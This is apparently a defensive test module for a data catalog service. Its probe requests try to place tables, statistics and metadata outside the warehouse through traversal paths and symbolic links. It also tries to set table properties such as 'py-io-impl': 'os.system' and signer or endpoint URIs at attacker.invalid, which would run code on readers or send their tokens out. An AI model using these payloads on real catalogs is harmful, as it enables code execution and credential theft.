"""The abuse corpus's requests about files: paths outside the warehouse in every field that
holds one, and (#48) table properties a reader would take as its own code or settings,
folders outside the warehouse at creation, and symbolic links out of it."""

from __future__ import annotations

import uuid

from catalog_probe import (
    CREATE,
    ORDERS,
    SCHEMA,
    SCRATCH,
    TABLES,
    Probe,
    _updates_on,
    commit,
    ident,
)
from catalog_scene import NS, Scene, instance_headers
from service_fixtures import LOAD_JOB_TOKEN


def _paths(scene: Scene) -> list[Probe]:
    """Paths outside the warehouse, in every field that holds one."""
    wh, out = f"file://{scene.service.warehouse}", f"file://{scene.outside}"
    snapshot = scene.snapshots["orders"]
    stats = {"snapshot-id": snapshot, "file-size-in-bytes": 4, "file-footer-size-in-bytes": 1}
    locations = [f"{out}/t", f"{wh}/../outside/t", f"{wh}/t?x=1", f"{wh}/t#x"]
    probes = [Probe(f"create at {x}", "POST", TABLES, {**CREATE, "location": x}) for x in locations]
    updates = [
        {
            "action": "set-statistics",
            "snapshot-id": snapshot,
            "statistics": {**stats, "statistics-path": f"{out}/victim.txt", "blob-metadata": []},
        },
        {
            "action": "set-partition-statistics",
            "partition-statistics": {
                **stats,
                "statistics-path": str(scene.outside / "victim2.txt"),
            },
        },
        {"action": "set-location", "location": f"{out}/moved"},
        {"action": "set-properties", "updates": {"write.metadata.path": out}},
        {"action": "set-properties", "updates": {"write.data.path": out}},
        {
            "action": "add-snapshot",
            "snapshot": {
                "snapshot-id": 77,
                "timestamp-ms": 1,
                "manifest-list": f"{out}/victim.txt",
                "summary": {"operation": "append"},
                "schema-id": 0,
            },
        },
    ]
    probes += [_updates_on(SCRATCH, u) for u in updates]
    return [
        *probes,
        Probe(
            "namespace outside",
            "POST",
            "/namespaces",
            {"namespace": ["evil"], "properties": {"location": out}},
        ),
        Probe(
            "namespace moved outside",
            "POST",
            f"/namespaces/{NS}/properties",
            {"updates": {"location": out}},
        ),
        Probe(
            "register an outside file",
            "POST",
            f"/namespaces/{NS}/register",
            {"name": "reg", "metadata-location": f"{out}/victim.txt"},
        ),
    ]


# Properties a reader would take as its own code or settings, as an attacker would set them:
# each matches exactly one entry of client_properties.REFUSED, and every entry has one here,
# so an entry taken out leaves its properties accepted (test_iceberg_rest_client_properties.py)
CLIENT_CODE: dict[str, str] = {
    "py-io-impl": "os.system",  # *-impl: pyiceberg imports and calls it (#48's finding)
    "PY-IO-IMPL": "os.system",
    "io-impl": "com.evil.FileIO",
    "write.py-location-provider.impl": "os.system",  # *.impl
    "write.location-provider.impl": "com.evil.LocationProvider",
    "parquet.crypto.factory.class": "com.evil.CryptoFactory",  # *.class
    "s3.signer.uri": "http://attacker.invalid",  # s3.*: the signer posts the reader's token
    "s3.endpoint": "http://attacker.invalid",
    "client.access-key-id": "AKIAEVIL",  # client.*
    "gcs.service.host": "http://attacker.invalid",  # gcs.*
    "adls.account-host": "attacker.invalid",  # adls.*
    "hdfs.kerberos_ticket": "/tmp/krb5cc_evil",  # hdfs.*: a path on the reader's machine
    "hf.endpoint": "http://attacker.invalid",  # hf.*
    "header.Authorization": "Bearer evil",  # header.*
    "uri": "http://attacker.invalid",  # uri
    "token": "evil",  # token
}


READER_CALLS: list[dict[str, str]] = []  # what reader_code heard


def reader_code(properties: dict[str, str]) -> None:
    """Code a table property could name for its readers (``py-io-impl =
    catalog_abuse_files.reader_code``): stock pyiceberg imports it and calls it with the reader's
    catalog properties, its token among them. It records the call."""
    READER_CALLS.append(dict(properties))


def _client_code(scene: Scene) -> list[Probe]:
    """Properties that would make a table's readers import code or take settings from the
    table (#48 item 1), through every door: commits, creates, transactions, registers."""
    code = {"py-io-impl": "os.system"}
    set_code = {"action": "set-properties", "updates": code}
    creation = [
        {"action": "assign-uuid", "uuid": str(uuid.uuid4())},
        {"action": "upgrade-format-version", "format-version": 2},
        {"action": "add-schema", "schema": SCHEMA},
        {"action": "set-current-schema", "schema-id": -1},
        {"action": "add-spec", "spec": {"spec-id": 0, "fields": []}},
        {"action": "set-default-spec", "spec-id": -1},
        {"action": "add-sort-order", "sort-order": {"order-id": 0, "fields": []}},
        {"action": "set-default-sort-order", "sort-order-id": -1},
        {"action": "set-location", "location": f"file://{scene.service.warehouse}/{NS}/code_tx"},
        set_code,
    ]
    create_tx = [{"identifier": ident("code_tx"), "requirements": [{"type": "assert-create"}]}]
    scratch_tx = [{"identifier": ident("scratch"), "requirements": [], "updates": [set_code]}]
    return [
        *(
            _updates_on(SCRATCH, {"action": "set-properties", "updates": {k: v}})
            for k, v in CLIENT_CODE.items()
        ),
        _updates_on(
            ORDERS, set_code, token=LOAD_JOB_TOKEN, headers=instance_headers(scene, "load")
        ),
        Probe(
            "create with py-io-impl", "POST", TABLES, {**CREATE, "name": "code", "properties": code}
        ),
        Probe(
            "stage-create with py-io-impl",
            "POST",
            TABLES,
            {**CREATE, "name": "code_staged", "properties": code, "stage-create": True},
        ),
        Probe(
            "create-transaction setting py-io-impl",
            "POST",
            "/transactions/commit",
            {"table-changes": [{**create_tx[0], "updates": creation}]},
        ),
        Probe(
            "transaction setting py-io-impl on scratch",
            "POST",
            "/transactions/commit",
            {"table-changes": scratch_tx},
        ),
        Probe(
            "register metadata with py-io-impl",
            "POST",
            f"/namespaces/{NS}/register",
            {"name": "code_registered", "metadata-location": scene.planted["client code"]},
        ),
    ]


def _folders_and_links(scene: Scene) -> list[Probe]:
    """Folders outside the warehouse at creation (#48 item 5) and paths through symbolic
    links planted in the warehouse that lead out of it (#48 item 2)."""
    out = f"file://{scene.outside}"
    folders = ("write.data.path", "write.object-storage.path", "write.folder-storage.path")
    register = f"/namespaces/{NS}/register"
    linked_folder = scene.planted["a link to a folder outside"]
    snapshot = scene.metadata["scratch"]["metadata"]["current-snapshot-id"]
    statistics = {
        "snapshot-id": snapshot,
        "statistics-path": f"{linked_folder}/victim.txt",
        "file-size-in-bytes": 4,
        "file-footer-size-in-bytes": 1,
        "blob-metadata": [],
    }
    return [
        *(
            Probe(
                f"create with {k} outside",
                "POST",
                TABLES,
                {**CREATE, "name": f"folders{i}", "properties": {k: f"{out}/x"}},
            )
            for i, k in enumerate(folders)
        ),
        Probe(
            "stage-create with write.object-storage.path outside",
            "POST",
            TABLES,
            {
                **CREATE,
                "name": "folders_staged",
                "properties": {"write.object-storage.path": f"{out}/x"},
                "stage-create": True,
            },
        ),
        *(
            _updates_on(SCRATCH, {"action": "set-properties", "updates": {k: f"{out}/x"}})
            for k in folders[1:]  # write.data.path: _paths has it
        ),
        Probe(
            "register metadata with a folder outside",
            "POST",
            register,
            {"name": "folders_registered", "metadata-location": scene.planted["folder outside"]},
        ),
        Probe(
            "register a metadata file that is a link out",
            "POST",
            register,
            {"name": "linked", "metadata-location": scene.planted["a link to a file outside"]},
        ),
        Probe(
            "register a metadata file through a linked folder",
            "POST",
            register,
            {
                "name": "linked2",
                "metadata-location": f"{linked_folder}/stolen.metadata.json",
            },
        ),
        Probe(
            "set-statistics through a linked folder on scratch",
            "POST",
            SCRATCH,
            commit({"action": "set-statistics", "snapshot-id": snapshot, "statistics": statistics}),
        ),
    ]
